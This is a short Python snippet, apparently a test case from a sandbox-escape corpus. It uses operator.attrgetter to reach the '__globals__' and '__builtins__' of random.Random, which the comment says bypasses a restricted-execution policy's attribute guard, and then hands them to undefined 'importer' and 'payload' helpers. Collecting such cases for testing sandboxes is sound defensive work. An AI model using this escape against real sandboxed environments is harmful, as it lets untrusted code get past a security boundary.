# kind: capability
# operator.attrgetter reads attributes without the policy's guard.
import operator
import random
g = operator.attrgetter("__init__.__globals__")(random.Random)
payload(importer(g["__builtins__"]))
